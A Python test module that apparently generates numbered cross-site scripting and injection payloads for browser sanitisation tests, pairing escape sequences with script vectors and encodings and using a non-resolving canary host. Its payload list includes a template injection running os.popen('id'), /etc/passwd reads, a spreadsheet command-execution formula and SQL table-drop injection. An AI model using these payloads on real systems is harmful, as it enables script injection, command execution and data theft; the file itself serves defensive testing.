"""Script payloads, generated: every way out of a text into a page, times every way to run there.

Each payload carries its number. One that runs notes it in the page's canary; one that loads asks an address
that does not exist for it. Made by our own rules from the grammar of HTML, SVG, MathML, CSS, addresses, htmx
attributes, template languages and spreadsheets; the seed only chooses among the combinations.
"""

from __future__ import annotations

import html
import random
import re
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

from tests.browser.chromium import CANARY

SEED = 20310504
ELSEWHERE = "canary.invalid"
"""A host that no one can have: names under .invalid never resolve."""
JINJA_SUM = 7919 * 7907
"""What `{{ 7919*7907 }}` would show if a template were made of a stored text."""

WAYS_OUT = (
    *("", '"', "'", "`", '">', "'>", '" ', "' ", ">", "</p>", "</li>", "</a>", "</mark>", "</textarea>"),
    *("</title>", "</style>", "</script>", "</select>", "</button>", "</dialog>", "</noscript>", "</svg>"),
    *(
        "</template>",
        "-->",
        "--!>",
        "<!--",
        "]]>",
        "\\'",
        '\\"',
        "*/",
        "\n",
        "\r\n",
        "\u2028",
        "\x0b",
        "&#34;>",
    ),
    *('"><textarea>', "'><title>", "<svg><style>", "<math><mtext>", "<noscript><p title='</noscript>"),
)
RUNS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT\t>",
    "<script/x>{run}</script >",
    "<script src=//{host}/{n}.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<IMG SRC=x ONERROR='{run}'>",
    "<img src=//{host}/{n}.png>",
    "<img srcset='//{host}/{n}.png 1x'>",
    "<svg onload={run}>",
    "<svg/onload='{run}'/>",
    "<svg><script>{run}</script></svg>",
    "<svg><script xlink:href=//{host}/{n}.js></script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:{run}'><text x=9 y=9>{n}</text></a></svg>",
    "<svg><use href=//{host}/{n}.svg#x></use></svg>",
    "<svg><image href=//{host}/{n}.png></image></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={run}>'>",
    "<math href='javascript:{run}'>{n}</math>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=//{host}/{n}></iframe>",
    "<object data='javascript:{run}'></object>",
    "<object data=//{host}/{n}></object>",
    "<embed src=//{host}/{n}>",
    "<video><source onerror={run}></video>",
    "<video poster=//{host}/{n}.png></video>",
    "<audio src=x onerror={run}></audio>",
    "<details open ontoggle={run}>{n}</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<a autofocus tabindex=0 onfocus={run} href='javascript:{run}'>{n}</a>",
    "<a href='javascript:{run}'>{n}</a>",
    "<a href='jav&#x09;ascript:{run}'>{n}</a>",
    "<a href='data:text/html,<script>{run}</script>'>{n}</a>",
    "<form action='javascript:{run}'><button autofocus>{n}</button></form>",
    "<button formaction='javascript:{run}'>{n}</button>",
    "<isindex action='javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//{host}/{n}/>",
    "<link rel=stylesheet href=//{host}/{n}.css>",
    "<link rel=preload as=script href=//{host}/{n}.js>",
    "<link rel=prefetch href=//{host}/{n}>",
    "<link rel=dns-prefetch href=//{host}>",
    "<style>@import '//{host}/{n}.css';</style>",
    "<style>*{{background:url(//{host}/{n}.png)}}</style>",
    "<p style='background:url(//{host}/{n}.png)'>{n}</p>",
    "<style>@keyframes k{{}}*{{animation:k 1s}}</style><p onanimationstart={run}>{n}</p>",
    "<marquee onstart={run}>{n}</marquee>",
    "<xmp><img src=x onerror={run}></xmp>",
    "<template><img src=x onerror={run}></template>",
    "<div hx-get=//{host}/{n} hx-trigger=load>{n}</div>",
    "<div data-hx-get=//{host}/{n} data-hx-trigger='load'>{n}</div>",
    "<div hx-on:load='{run}' hx-on::load='{run}'>{n}</div>",
    "<div hx-trigger='load[{run}]' hx-get=/today>{n}</div>",
    "<div hx-vals='js:{{x:{run}}}' hx-get=/today hx-trigger=load>{n}</div>",
    "<hx-partial hx-target=body><img src=x onerror={run}></hx-partial>",
    "<div class=row tabindex=0 data-claim='x' data-words='w' id=main>{n}</div>",
    "<li role=option data-to='javascript:{run}' aria-selected=true>{n}</li>",
    "onmouseover={run} x=",
    "onfocus={run} autofocus x=",
    "style=animation-name:x onanimationstart={run} x=",
    "javascript:{run}",
    "JaVaScRiPt:{run}//",
    "\x01javascript:{run}",
    "java\nscript:{run}",
    "data:text/html;{n};base64,PHNjcmlwdD5leGVjdXRlZC5wdXNoKDEpPC9zY3JpcHQ+",
    "vbscript:{run}",
    "//{host}/{n}",
    "https://{host}/{n}",
    "\\\\{host}\\{n}",
    "{{{{ 7919*7907 }}}} {n}",
    "{{% raw %}}{{{{ 7919*7907 }}}}{{% endraw %}} {n}",
    "{{{{ self.__init__.__globals__ }}}} {n}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}} {n}",
    "{{% import 'os' as os %}} {n}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "%(num)s %(count)s {n}",
    "{{0.__class__}} {n}",
    "[[constructor.constructor('{run}')()]]",
    '=HYPERLINK("https://{host}/{n}","{n}")',
    "=cmd|'/C calc'!A{n}",
    "@SUM(1+1)*{n}",
    "+1+1-{n}",
    '#eval(`{run}`) #read("/etc/passwd") {n}',
    '#image("https://{host}/{n}.png")',
    "[{n}](javascript:{run})",
    "![{n}](https://{host}/{n}.png)",
    "../../../../etc/passwd {n}",
    "'; DROP TABLE claims; -- {n}",
    '" OR 1=1 NEAR( * {n}',
)
CSV_STARTS = ("=", "+", "-", "@")


def plain(text: str) -> str:
    return text


def upper_tags(text: str) -> str:
    return re.sub(r"<(/?\w+)", lambda found: f"<{found[1].upper()}", text)


def as_entities(text: str) -> str:
    return html.escape(text)


def as_numbers(text: str) -> str:
    return re.sub(r"[<>\"'/]", lambda found: f"&#x{ord(found[0]):x};", text)


def percent(text: str) -> str:
    return quote(text)


def percent_twice(text: str) -> str:
    return quote(quote(text))


def fullwidth(text: str) -> str:
    """Wide letters, which a careless normalisation turns into tags."""
    return text.translate({ord(c): chr(ord(c) + 0xFEE0) for c in "<>\"'/="})


def in_javascript(text: str) -> str:
    return re.sub(r"[<>\"']", lambda found: f"\\u{ord(found[0]):04x}", text)


def invisible_between(text: str) -> str:
    return text.replace("<", "<\u200b", 1).replace("script", "scr\u00adipt")


def reversed_reading(text: str) -> str:
    return f"\u202e{text}\u202c"


def joined(text: str) -> str:
    """Combining signs and a letter outside the basic plane around it."""
    return f"e\u0301\U0001f9d1\u200d{text}\ufeff"


FORMS: tuple[Callable[[str], str], ...] = (
    *(plain, plain, upper_tags, as_entities, as_numbers, percent, percent_twice),
    *(fullwidth, in_javascript, invisible_between, reversed_reading, joined),
)


def payloads(count: int) -> tuple[str, ...]:
    """So many different payloads; fewer are the beginning of more, and every way to run comes first."""
    found: dict[str, None] = {}
    for text in _numbered():
        if len(found) == count:
            break
        found[text] = None
    return tuple(found)


def _numbered() -> Iterator[str]:
    chance = random.Random(SEED)
    rest = [
        (out, run, form) for out, run, form in product(WAYS_OUT, RUNS, FORMS) if (out, form) != ("", plain)
    ]
    chance.shuffle(rest)
    combined = [*(("", run, plain) for run in RUNS), *(('">', run, plain) for run in RUNS), *rest]
    for n, (out, run, form) in enumerate(combined):
        body = run.format(run=f"{CANARY}.push({n})", n=n, host=ELSEWHERE)
        yield form(out + body)
